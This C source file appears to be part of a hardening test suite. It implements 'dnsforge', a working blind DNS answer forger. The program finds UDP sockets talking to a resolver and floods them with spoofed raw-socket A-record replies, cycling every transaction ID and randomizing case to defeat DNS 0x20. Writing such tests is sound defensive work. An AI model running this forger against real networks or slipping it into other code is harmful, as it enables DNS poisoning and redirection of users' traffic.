/* dnsforge: a blind DNS answer forger, for the hardening tests (issue 12, class 1). Runs as
 * root with CAP_NET_RAW inside a firewalled container, as an attacker there would:
 *
 *   dnsforge RESOLVER NAME ADDR SECONDS
 *
 * Over and over for SECONDS: reads /proc/net/udp and /proc/net/udp6 for UDP sockets connected
 * to RESOLVER:53 (the DNS proxy's upstream sockets live in the container's network namespace),
 * and sends each such local address:port, from RESOLVER:53 over a raw IPv4 socket (IP_HDRINCL),
 * the answer "NAME A ADDR" (TTL 300), cycling through every id 0..65535 (per port, in chunks of
 * CHUNK ids, /proc re-read between chunks so short-lived sockets are found too). The question
 * name is sent in a random letter case per packet (a blind forger's best guess against DNS
 * 0x20). IPv4 resolvers only (udp6 rows are read for v4-mapped peers).
 *
 * Prints "ports N packets M" at the end (N distinct local ports seen, M packets sent), and
 * "port P" the first time each port is seen. Exit 0, or 2 on a setup error (errno text). */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_TARGETS 64
#define CHUNK 4096

struct target { uint32_t local; uint16_t port; };

/* Per local port: seen yet, and the next id to send it. */
static unsigned char seen[65536];
static uint16_t next_id[65536];
static int nseen;

static void note_seen(uint16_t port)
{
	if (seen[port]) return;
	seen[port] = 1;
	nseen++;
	printf("port %u\n", port);
	fflush(stdout);
}

/* "AABBCCDD" as the kernel prints a __be32 (%08X of the raw value): back to the raw value. */
static uint32_t hex_be32(const char *s)
{
	char buf[9];
	memcpy(buf, s, 8);
	buf[8] = 0;
	return (uint32_t)strtoul(buf, NULL, 16);
}

/* Sockets connected to resolver:53 in one /proc/net/udp{,6} file. */
static int scan(const char *path, int v6, uint32_t resolver, struct target *t, int n)
{
	FILE *f = fopen(path, "r");
	if (!f) return n;
	char line[512];
	if (!fgets(line, sizeof line, f)) { fclose(f); return n; } /* header */
	while (n < MAX_TARGETS && fgets(line, sizeof line, f)) {
		char local[64], remote[64];
		if (sscanf(line, " %*d: %63s %63s", local, remote) != 2) continue;
		char *lp = strchr(local, ':'), *rp = strchr(remote, ':');
		if (!lp || !rp) continue;
		unsigned rport = (unsigned)strtoul(rp + 1, NULL, 16), lport = (unsigned)strtoul(lp + 1, NULL, 16);
		if (rport != 53) continue;
		uint32_t raddr, laddr;
		if (v6) {
			/* v4-mapped ::ffff:a.b.c.d: four 32-bit words, the last one is the IPv4 address. */
			if (rp - remote != 32 || strncmp(remote, "0000000000000000FFFF0000", 24) != 0) continue;
			raddr = hex_be32(remote + 24);
			laddr = hex_be32(local + 24);
		} else {
			raddr = hex_be32(remote);
			laddr = hex_be32(local);
		}
		if (raddr != resolver) continue;
		t[n].local = laddr;
		t[n].port = (uint16_t)lport;
		note_seen((uint16_t)lport);
		n++;
	}
	fclose(f);
	return n;
}

/* The forged answer after the IP and UDP headers; returns its length. The id is set later. */
static int build_answer(unsigned char *p, const char *name, struct in_addr addr, unsigned char **name_at, int *name_len)
{
	unsigned char *start = p;
	*p++ = 0; *p++ = 0;                     /* id */
	*p++ = 0x81; *p++ = 0x80;               /* QR RD RA, NOERROR */
	*p++ = 0; *p++ = 1; *p++ = 0; *p++ = 1; /* QD=1 AN=1 */
	*p++ = 0; *p++ = 0; *p++ = 0; *p++ = 0;
	*name_at = p;
	const char *s = name;
	while (*s) {
		const char *dot = strchr(s, '.');
		size_t len = dot ? (size_t)(dot - s) : strlen(s);
		if (len == 0 || len > 63) return -1;
		*p++ = (unsigned char)len;
		memcpy(p, s, len);
		p += len;
		s += len;
		if (*s == '.') s++;
	}
	*p++ = 0;
	*name_len = (int)(p - *name_at);
	*p++ = 0; *p++ = 1; *p++ = 0; *p++ = 1;       /* A IN */
	*p++ = 0xc0; *p++ = 12;                       /* owner: the question name */
	*p++ = 0; *p++ = 1; *p++ = 0; *p++ = 1;       /* A IN */
	*p++ = 0; *p++ = 0; *p++ = 0x01; *p++ = 0x2c; /* TTL 300 */
	*p++ = 0; *p++ = 4;
	memcpy(p, &addr, 4);
	p += 4;
	return (int)(p - start);
}

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	if (argc != 5) {
		fprintf(stderr, "usage: dnsforge RESOLVER NAME ADDR SECONDS\n");
		return 2;
	}
	struct in_addr resolver, addr;
	if (inet_pton(AF_INET, argv[1], &resolver) != 1 || inet_pton(AF_INET, argv[3], &addr) != 1) {
		fprintf(stderr, "dnsforge: RESOLVER and ADDR must be IPv4 addresses\n");
		return 2;
	}
	double seconds = atof(argv[4]);
	if (seconds <= 0 || seconds > 120) {
		fprintf(stderr, "dnsforge: SECONDS must be in (0, 120]\n");
		return 2;
	}
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW); /* IP_HDRINCL implied */
	if (fd < 0) { printf("socket: %s\n", strerror(errno)); return 2; }

	unsigned char pkt[600];
	struct iphdr *ip = (struct iphdr *)pkt;
	struct udphdr *udp = (struct udphdr *)(pkt + sizeof *ip);
	unsigned char *dns = pkt + sizeof *ip + sizeof *udp, *name_at;
	int name_len;
	int dns_len = build_answer(dns, argv[2], addr, &name_at, &name_len);
	if (dns_len < 0) { fprintf(stderr, "dnsforge: bad NAME\n"); return 2; }
	int total = (int)(sizeof *ip + sizeof *udp) + dns_len;
	memset(ip, 0, sizeof *ip);
	ip->version = 4; ip->ihl = 5; ip->ttl = 64; ip->protocol = IPPROTO_UDP;
	ip->tot_len = htons((uint16_t)total); /* checksum and id filled in by the kernel */
	ip->saddr = resolver.s_addr;
	udp->source = htons(53);
	udp->len = htons((uint16_t)(sizeof *udp + dns_len));
	udp->check = 0; /* none (allowed over IPv4) */

	unsigned char random[4096];
	size_t rpos = sizeof random;
	long packets = 0;
	double end = now() + seconds;
	while (now() < end) {
		struct target t[MAX_TARGETS];
		int n = scan("/proc/net/udp", 0, resolver.s_addr, t, 0);
		n = scan("/proc/net/udp6", 1, resolver.s_addr, t, n);
		if (n == 0) continue; /* nothing in flight: read /proc again */
		for (int k = 0; k < n && now() < end; k++) {
			struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr.s_addr = t[k].local };
			ip->daddr = t[k].local;
			udp->dest = htons(t[k].port);
			for (int c = 0; c < CHUNK; c++) {
				uint16_t id = next_id[t[k].port]++;
				dns[0] = id >> 8;
				dns[1] = id & 0xff;
				for (int i = 0; i < name_len; i++) {
					unsigned char c = name_at[i];
					if ((c | 0x20) >= 'a' && (c | 0x20) <= 'z') {
						if (rpos == sizeof random) {
							if (getrandom(random, sizeof random, 0) != (ssize_t)sizeof random) return 2;
							rpos = 0;
						}
						name_at[i] = (random[rpos++] & 1) ? (c & ~0x20) : (c | 0x20);
					}
				}
				if (sendto(fd, pkt, total, 0, (struct sockaddr *)&to, sizeof to) == total) packets++;
			}
		}
	}
	printf("ports %d packets %ld\n", nseen, packets);
	return 0;
}
